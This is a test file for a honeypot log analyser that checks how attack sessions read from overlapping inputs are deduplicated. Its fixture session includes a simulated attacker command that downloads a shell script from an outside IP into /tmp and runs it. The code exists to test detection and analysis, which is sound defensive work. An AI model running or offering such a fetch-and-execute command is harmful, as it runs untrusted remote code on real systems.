/**
 * Inputs that overlap (two exports over overlapping windows, a log beside a copy of part of
 * it) repeat events; each is counted once. The check that does not lean on the code under
 * test: a real log cut into overlapping pieces gives the campaigns of the whole log, byte for
 * byte, and exactly the overlap is reported as read twice.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join, resolve } from "node:path"
import { gunzipSync } from "node:zlib"
import * as Effect from "effect/Effect"
import { DEFAULT_CONFIG } from "../../src/config/AnalysisConfig.ts"
import type { AttackSession } from "../../src/domain/AttackSession.ts"
import type { HoneypotEvent } from "../../src/domain/Event.ts"
import type { Result } from "../../src/domain/Result.ts"
import { SessionBuilder } from "../../src/ingest/SessionBuilder.ts"
import { runAnalysis, runAnalysisWithSessions } from "../../src/pipeline/runAnalysis.ts"

const REPO = resolve(import.meta.dir, "../..")
const RADEC = resolve(REPO, "../shared/corpora/radec73-2024-04.cowrie.json.gz")
const HAVE_CORPORA = existsSync(RADEC)

let tmp = ""
beforeAll(() => {
  tmp = mkdtempSync(join(tmpdir(), "dshield-overlap-"))
})
afterAll(() => {
  if (tmp !== "") rmSync(tmp, { recursive: true, force: true })
})

const T0 = Date.UTC(2024, 3, 1)

const event = (kind: HoneypotEvent["kind"], session: string, ts: number, fields: Partial<HoneypotEvent> = {}): HoneypotEvent => ({
  kind,
  sourceEventId: `cowrie.${kind}`,
  sessionKey: session,
  ts,
  srcIp: "192.0.2.1",
  ...fields
})

/** Builds the sessions of `inputs` (each a list of events) read one after the other. */
const build = (inputs: ReadonlyArray<ReadonlyArray<HoneypotEvent>>): { sessions: Array<AttackSession>; duplicates: number } => {
  const builder = new SessionBuilder()
  inputs.forEach((events, index) => {
    builder.startInput(index, inputs.length > 1)
    for (const e of events) builder.add(e)
  })
  return { sessions: builder.build(), duplicates: builder.duplicateEvents }
}

/** A short SSH session: connect, a failed and a good login, three commands, close. */
const session = (id: string, start: number): Array<HoneypotEvent> => [
  event("session.connect", id, start, { srcPort: 40000, dstPort: 22, protocol: "ssh" }),
  event("login.failed", id, start + 100, { username: "root", password: "admin" }),
  event("login.success", id, start + 200, { username: "root", password: "1234" }),
  event("command.input", id, start + 300, { input: "uname -a" }),
  event("command.input", id, start + 400, { input: "cd /tmp; wget http://198.51.100.7/x.sh" }),
  event("command.input", id, start + 500, { input: "sh x.sh" }),
  event("session.closed", id, start + 600)
]

describe("the session builder counts an event read twice once", () => {
  const a = session("a", T0)
  const b = session("b", T0 + 50)
  const whole = build([[...a, ...b]].map((events) => events.slice().sort((x, y) => x.ts - y.ts)))

  test("a second input that repeats part of the first adds nothing, and the repeats are counted", () => {
    const first = [...a, ...b.slice(0, 4)].sort((x, y) => x.ts - y.ts)
    const second = [...a.slice(3), ...b].sort((x, y) => x.ts - y.ts)
    const read = build([first, second])
    expect(read.sessions).toEqual(whole.sessions)
    expect(read.duplicates).toBe(4 + 4)
    expect(read.sessions.find((s) => s.id === "a")!.event_count).toBe(7)
  })

  test("the same input twice, one copy in reverse order: every repeat is dropped", () => {
    const events = [...a, ...b].sort((x, y) => x.ts - y.ts)
    const read = build([events, events.slice().reverse()])
    expect(read.sessions).toEqual(whole.sessions)
    expect(read.duplicates).toBe(events.length)
  })

  test("two equal events in one input (a command sent twice in one millisecond) are both kept", () => {
    const twice = [...a.slice(0, 4), event("command.input", "a", T0 + 300, { input: "uname -a" }), ...a.slice(4)]
    const alone = build([twice])
    expect(alone.sessions[0]!.commands.filter((c) => c === "uname -a").length).toBe(2)
    expect(alone.duplicates).toBe(0)
    // Read again from a second input, the pair is still a pair.
    const again = build([twice, twice])
    expect(again.sessions).toEqual(alone.sessions)
    expect(again.duplicates).toBe(twice.length)
  })

  test("events that differ in any field the engine reads are not repeats", () => {
    const other = [
      event("command.input", "a", T0 + 300, { input: "uname -a " }),
      event("login.failed", "a", T0 + 100, { username: "root", password: "admin1" }),
      event("login.failed", "a", T0 + 100, { username: "admin", password: "admin" }),
      event("command.failed", "a", T0 + 300, { input: "uname -a" })
    ]
    const read = build([a, other])
    expect(read.duplicates).toBe(0)
    expect(read.sessions[0]!.event_count).toBe(a.length + other.length)
  })

  test("firewall packets are never compared: their times are to the second and packets repeat", () => {
    const packet = (ts: number): HoneypotEvent => ({ kind: "firewall.packet", sourceEventId: "iptables", sessionKey: "198.51.100.9", ts, srcIp: "198.51.100.9", dstPort: 23, protocol: "tcp" })
    const packets = [packet(T0), packet(T0), packet(T0 + 1000)]
    const read = build([packets, packets])
    expect(read.duplicates).toBe(0)
    expect(read.sessions.reduce((n, s) => n + s.event_count, 0)).toBe(6)
  })

  test("a hostile session of 50,000 events at one instant, read twice, stays linear", () => {
    const many = Array.from({ length: 50_000 }, (_, i) => event("command.input", "h", T0, { input: `echo ${i}` }))
    const started = performance.now()
    const read = build([many, many])
    expect(read.duplicates).toBe(50_000)
    expect(read.sessions[0]!.commands.length).toBe(50_000)
    // A quadratic scan would compare about 10^9 pairs here; this bound only catches that.
    expect(performance.now() - started).toBeLessThan(30_000)
  })
})

/** The Result without the run's own instants and without the input block (compared apart). */
const campaignsOf = (r: Result): string => JSON.stringify({ campaigns: r.campaigns, unclustered: r.unclustered_sessions, sessions: r.input.sessions })

describe("a real log cut into overlapping pieces", () => {
  test.skipIf(!HAVE_CORPORA)("gives the whole log's campaigns, and the overlap is reported as read twice", async () => {
    const lines = gunzipSync(readFileSync(RADEC)).toString("utf8").split("\n").filter((l) => l.length > 0)
    // Three pieces: lines 1–30,000, 20,001–35,000 and 30,001 to the end.
    const pieces = [lines.slice(0, 30_000), lines.slice(20_000, 35_000), lines.slice(30_000)]
    const paths = pieces.map((piece, i) => {
      const path = join(tmp, `piece-${i}.json`)
      writeFileSync(path, `${piece.join("\n")}\n`)
      return path
    })
    const overlap = 10_000 + 5_000
    const whole = await Effect.runPromise(runAnalysis([RADEC], DEFAULT_CONFIG))
    const cut = await Effect.runPromise(runAnalysis(paths, DEFAULT_CONFIG))
    expect(whole.result.input.duplicate_events).toBeUndefined()
    expect(cut.result.input.events).toBe(lines.length + overlap)
    expect(cut.result.input.duplicate_events).toBe(overlap)
    expect(campaignsOf(cut.result)).toBe(campaignsOf(whole.result))
    // Held whole instead of streamed (the second piece goes back in time): the same.
    const held = await Effect.runPromise(runAnalysisWithSessions(paths, DEFAULT_CONFIG))
    expect(held.report.sessions).toEqual((await Effect.runPromise(runAnalysisWithSessions([RADEC], DEFAULT_CONFIG))).report.sessions)
    expect(held.report.duplicateEvents).toBe(overlap)
  }, 120_000)

  test.skipIf(!HAVE_CORPORA)("the command says so in one line, and the table counts it", () => {
    const lines = gunzipSync(readFileSync(RADEC)).toString("utf8").split("\n").filter((l) => l.length > 0).slice(0, 4000)
    const first = join(tmp, "first.json")
    const second = join(tmp, "second.json")
    writeFileSync(first, `${lines.slice(0, 3000).join("\n")}\n`)
    writeFileSync(second, `${lines.slice(2000).join("\n")}\n`)
    const run = Bun.spawnSync([resolve(REPO, "bin/dshield-coord"), "analyze", first, second], { stdout: "pipe", stderr: "pipe" })
    expect(run.exitCode).toBe(0)
    expect(run.stderr.toString()).toContain("note: 1000 event(s) were read twice (inputs that overlap) and counted once in their sessions.")
    expect(run.stdout.toString()).toContain("; 1000 events read twice, counted once.")
  }, 60_000)
})
